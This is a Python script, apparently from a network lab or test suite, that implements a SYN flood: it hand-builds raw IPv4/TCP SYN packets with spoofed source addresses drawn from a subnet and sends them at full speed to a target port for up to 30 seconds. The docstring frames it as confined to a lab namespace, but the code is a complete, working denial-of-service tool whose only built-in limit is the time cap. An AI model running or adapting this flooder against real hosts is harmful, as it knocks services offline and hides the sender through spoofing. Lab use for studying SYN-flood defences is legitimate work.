"""A SYN flooder for the lab: run inside the lab's namespace (``ip netns exec``).

    python _syn_flooder.py TARGET PORT SECONDS SUBNET [EXCLUDE...]

Sends IPv4 SYNs to TARGET:PORT through a raw socket (IPPROTO_RAW: the
headers are built here), as fast as one process can, for SECONDS, each from
a spoofed source address inside SUBNET but none of EXCLUDE (the lab's own
/24 but for the kernel's address: the SYN,ACKs go back into the namespace,
which forwards nothing) and a random port. The
packets are built beforehand (a pool, cycled through). At the end it prints
``sent N in T s: R SYN/s``. Bounded in time; it never sends anywhere but
TARGET.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time
from ipaddress import IPv4Address, IPv4Network

POOL = 1 << 14


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src: IPv4Address, dst: IPv4Address, sport: int, dport: int, isn: int) -> bytes:
    mss = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, (5 + 1) << 4, 0x02, 64240, 0, 0) + mss
    pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0,
        src.packed, dst.packed,
    )  # fmt: skip
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> None:
    target, port, seconds = IPv4Address(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    subnet = IPv4Network(sys.argv[4], strict=False)
    exclude = {target, *map(IPv4Address, sys.argv[5:])}
    assert 0 < seconds <= 30, "a bounded flood"
    rng = random.Random(1)
    hosts = [h for h in subnet.hosts() if h not in exclude]
    pool = [
        syn(rng.choice(hosts), target, rng.randrange(1024, 65536), port, rng.getrandbits(32))
        for _ in range(POOL)
    ]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setblocking(False)
    addr = (str(target), 0)
    print("flooding", flush=True)
    sent = refused = i = 0
    start = time.monotonic()
    end = start + seconds
    while time.monotonic() < end:
        for _ in range(256):
            try:
                sock.sendto(pool[i], addr)
                sent += 1
            except BlockingIOError:
                refused += 1
            i = (i + 1) % POOL
    elapsed = time.monotonic() - start
    print(f"sent {sent} in {elapsed:.2f} s: {sent / elapsed:.0f} SYN/s ({refused} refused)")


if __name__ == "__main__":
    main()
